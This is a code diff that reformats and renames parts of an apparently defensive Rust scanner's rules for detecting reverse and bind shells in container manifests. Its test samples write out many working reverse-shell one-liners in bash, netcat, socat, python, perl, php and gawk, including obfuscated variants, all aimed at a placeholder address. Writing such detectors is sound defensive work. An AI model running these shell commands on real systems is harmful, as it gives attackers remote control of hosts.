@@ -19,32 +19,100 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1059.004", "T1095"],
         check: |facts, found| networked_shells(facts, found, false),
         samples: &[
-            Sample::Hit(50, "containers: [{name: a, command: [/bin/sh, -c], args: ['nc 192.0.2.10 4444 -e /bin/sh']}]"),
-            Sample::Hit(50, "containers: [{name: a, image: ncat, args: ['192.0.2.10', '4444', --exec, /bin/bash]}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [ncat, '192.0.2.10', '1', --sh-exec, 'bash -i']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [bash, -c, \"bash\\t-i >&\\t/dev/tcp/192.0.2.10/443 0>&1\"]}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [bash, -c, '0<&196;exec 196<>/dev/tcp/192.0.2.10/443; sh <&196 >&196 2>&196']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [bash, -c, 'exec 5<>/dev/tcp/192.0.2.10/443; cat <&5 | while read l; do $l 2>&5 >&5; done']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 443 > /tmp/f']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [sh, -c, 'mknod /tmp/f p; sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/f']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [sh, -c, 'telnet 192.0.2.10 1 | sh | telnet 192.0.2.10 2']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [socat, 'TCP:192.0.2.10:443', 'EXEC:/bin/bash,pty']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [gawk, 'BEGIN{s=\"/inet/tcp/0/192.0.2.10/1\";while(1){s|&getline c;system(c)}}']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [python3, -c, 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.10\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [perl, -e, 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [php, -r, '$s=fsockopen(\"192.0.2.10\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");']}]"),
-            Sample::Hit(50, "containers: [{name: a, command: [sh, -c, \"python3 - <<E\\nimport socket,pty,os\\ns=socket.socket();s.connect(('192.0.2.10',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\\nE\"]}]"),
-            Sample::Hit(50, "containers: [{name: a, env: [{name: A, value: 'nc 192.0.2.10 1 -e sh'}], command: [sh, -c, '$(A)']}]"),
-            Sample::Hit(50, "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]"),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [/bin/sh, -c], args: ['nc 192.0.2.10 4444 -e /bin/sh']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, image: ncat, args: ['192.0.2.10', '4444', --exec, /bin/bash]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [ncat, '192.0.2.10', '1', --sh-exec, 'bash -i']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, \"bash\\t-i >&\\t/dev/tcp/192.0.2.10/443 0>&1\"]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, '0<&196;exec 196<>/dev/tcp/192.0.2.10/443; sh <&196 >&196 2>&196']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [bash, -c, 'exec 5<>/dev/tcp/192.0.2.10/443; cat <&5 | while read l; do $l 2>&5 >&5; done']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 443 > /tmp/f']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'mknod /tmp/f p; sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/f']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, 'telnet 192.0.2.10 1 | sh | telnet 192.0.2.10 2']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [socat, 'TCP:192.0.2.10:443', 'EXEC:/bin/bash,pty']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [gawk, 'BEGIN{s=\"/inet/tcp/0/192.0.2.10/1\";while(1){s|&getline c;system(c)}}']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.10\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [perl, -e, 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [php, -r, '$s=fsockopen(\"192.0.2.10\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [sh, -c, \"python3 - <<E\\nimport socket,pty,os\\ns=socket.socket();s.connect(('192.0.2.10',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\\nE\"]}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, env: [{name: A, value: 'nc 192.0.2.10 1 -e sh'}], command: [sh, -c, '$(A)']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]",
+            ),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -zvw3 db 5432 && sh migrate.sh']}]"),
-            Sample::Miss("containers: [{name: a, command: [bash, -c, 'until (echo > /dev/tcp/db/5432); do sleep 1; done']}]"),
-            Sample::Miss("containers: [{name: a, command: [bash, -c, 'timeout 1 bash -c \"</dev/tcp/db/5432\" && echo up']}]"),
-            Sample::Miss("containers: [{name: a, command: [bash, -c, 'exec 3<>/dev/tcp/db/5432 && echo up']}]"),
-            Sample::Miss("containers: [{name: a, command: [echo, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]"),
-            Sample::Miss("containers: [{name: a, command: [python3, -c, 'import socket; socket.create_connection((\"db\", 5432))']}]"),
-            Sample::Miss("containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.create_connection((\"db\",1));subprocess.run([\"bash\",\"migrate.sh\"])']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'until (echo > /dev/tcp/db/5432); do sleep 1; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'timeout 1 bash -c \"</dev/tcp/db/5432\" && echo up']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'exec 3<>/dev/tcp/db/5432 && echo up']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [echo, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import socket; socket.create_connection((\"db\", 5432))']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.create_connection((\"db\",1));subprocess.run([\"bash\",\"migrate.sh\"])']}]",
+            ),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'echo ruok | nc zookeeper 2181']}]"),
         ],
         ..COMMAND
@@ -60,8 +128,14 @@ pub(super) static RULES: &[Rule] = &[
         check: |facts, found| networked_shells(facts, found, true),
         samples: &[
             Sample::Hit(45, "containers: [{name: a, command: [nc, -lvp, '4444', -e, /bin/sh]}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [socat, 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc -l -p 4444 > f']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [socat, 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc -l -p 4444 > f']}]",
+            ),
             Sample::Hit(45, "containers: [{name: a, command: [busybox, telnetd, -p, '23', -l, /bin/sh]}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -l -p 8080 > /data/upload']}]"),
             Sample::Miss("containers: [{name: a, command: [socat, 'TCP-LISTEN:80,fork', 'TCP:db:5432']}]"),
@@ -89,18 +163,22 @@ struct Net {
     descriptors: Vec<u32>,
     /// Some network tool listens.
     listens: bool,
-    fed_by_net: Vec<bool>,
-    fed_by_shell: Vec<bool>,
-    fed_by_descriptor: Vec<bool>,
+    after_net: Vec<bool>,
+    after_shell: Vec<bool>,
+    after_descriptor: Vec<bool>,
 }
 
 impl Net {
     fn of(run: &Run<'_>) -> Self {
         let commands = &run.execution.commands;
         let fifo = commands.iter().any(|invocation| {
-            invocation.program == "mkfifo" || invocation.program == "coproc" || invocation.program == "mknod" && has(invocation, &["p"])
+            invocation.program == "mkfifo"
+                || invocation.program == "coproc"
+                || invocation.program == "mknod" && has(invocation, &["p"])
         });
-        let opened = commands.iter().filter(|invocation| invocation.program == "exec" || invocation.program.is_empty());
+        let opened = commands
+            .iter()
+            .filter(|invocation| invocation.program == "exec" || invocation.program.is_empty());
         let mut descriptors: Vec<u32> = opened
             .flat_map(|invocation| &invocation.redirects)
             .filter(|redirect| is_socket(&redirect.target.text))
@@ -108,13 +186,13 @@ impl Net {
             .collect();
         descriptors.sort_unstable();
         descriptors.dedup();
-        let fed_by_descriptor = run.fed(|invocation| duplicates(&invocation.redirects, &descriptors));
+        let after_descriptor = run.fed(|invocation| duplicates(&invocation.redirects, &descriptors));
         Self {
             fifo,
             listens: commands.iter().any(listens),
-            fed_by_net: run.fed(is_net_pipe),
-            fed_by_shell: run.fed(|invocation| is_shell(&invocation.program)),
-            fed_by_descriptor,
+            after_net: run.fed(is_net_pipe),
+            after_shell: run.fed(|invocation| is_shell(&invocation.program)),
+            after_descriptor,
             descriptors,
         }
     }
@@ -134,7 +212,9 @@ impl Net {
             if code::is_bind_shell(code) {
                 return Some(true);
             }
-            if code::is_reverse_shell(code) || code.contains("/inet/tcp/") && (code.contains("getline") || code.contains("system(")) {
+            if code::is_reverse_shell(code)
+                || code.contains("/inet/tcp/") && (code.contains("getline") || code.contains("system("))
+            {
                 return Some(false);
             }
         }
@@ -143,8 +223,8 @@ impl Net {
         }
         let set = |list: &[bool]| list.get(at) == Some(&true);
         let reads_script = is_shell(&invocation.program) && operands(invocation).next().is_none();
-        let fed = reads_script && set(&self.fed_by_net);
-        let circle = self.fifo && is_net_pipe(invocation) && set(&self.fed_by_shell);
+        let fed = reads_script && set(&self.after_net);
+        let circle = self.fifo && is_net_pipe(invocation) && set(&self.after_shell);
         (fed || circle).then_some(self.listens)
     }
 
@@ -153,14 +233,15 @@ impl Net {
     /// Waiting for a port, `(echo > /dev/tcp/db/5432)`, has no shell on the socket; `exec 3<>/dev/tcp/db/5432`
     /// alone has none either.
     fn shell_on_socket(&self, at: usize, invocation: &Invocation) -> bool {
-        let runs_text = is_shell(&invocation.program) || matches!(invocation.program.as_str(), "eval" | "source");
+        let runs_text =
+            is_shell(&invocation.program) || matches!(invocation.program.as_str(), "eval" | "source");
         if !runs_text && !invocation.program.starts_with('$') {
             return false;
         }
         // `bash -c 'exec 3<>/dev/tcp/…'` has its redirection inside the script; one on the shell is another matter.
         invocation.redirects.iter().any(|redirect| is_socket(&redirect.target.text))
             || duplicates(&invocation.redirects, &self.descriptors)
-            || self.fed_by_descriptor.get(at) == Some(&true)
+            || self.after_descriptor.get(at) == Some(&true)
     }
 }
 
@@ -209,12 +290,17 @@ pub(super) fn is_netcat(program: &str) -> bool {
 /// Whether a netcat waits for connections.
 fn listens(invocation: &Invocation) -> bool {
     is_netcat(&invocation.program)
-        && words(invocation).any(|word| word == "--listen" || cluster(word).is_some_and(|flags| flags.contains('l')))
+        && words(invocation)
+            .any(|word| word == "--listen" || cluster(word).is_some_and(|flags| flags.contains('l')))
 }
 
 /// Whether a netcat only looks whether a port is open.
 pub(super) fn only_probes(invocation: &Invocation) -> bool {
-    words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('z')) || word.starts_with("-zv") || word.starts_with("-vz"))
+    words(invocation).any(|word| {
+        cluster(word).is_some_and(|flags| flags.contains('z'))
+            || word.starts_with("-zv")
+            || word.starts_with("-vz")
+    })
 }
 
 /// Tools that connect their standard streams to a remote host.
@@ -231,8 +317,13 @@ fn socat_exec(invocation: &Invocation) -> Option<bool> {
     let kinds = || {
         words(invocation).filter_map(|word| word.split_once(':')).map(|(kind, _)| kind.to_ascii_uppercase())
     };
-    let runs = invocation.program == "socat" && kinds().any(|kind| matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL"));
-    let net = |kind: &String| ["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP", "VSOCK"].iter().any(|net| kind.starts_with(net));
+    let runs = invocation.program == "socat"
+        && kinds().any(|kind| matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL"));
+    let net = |kind: &String| {
+        ["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP", "VSOCK"]
+            .iter()
+            .any(|net| kind.starts_with(net))
+    };
     let listening = kinds().any(|kind| kind.contains("LISTEN") || kind == "TCP-L" || kind == "UDP-L");
     (runs && kinds().any(|kind| net(&kind))).then_some(listening)
 }
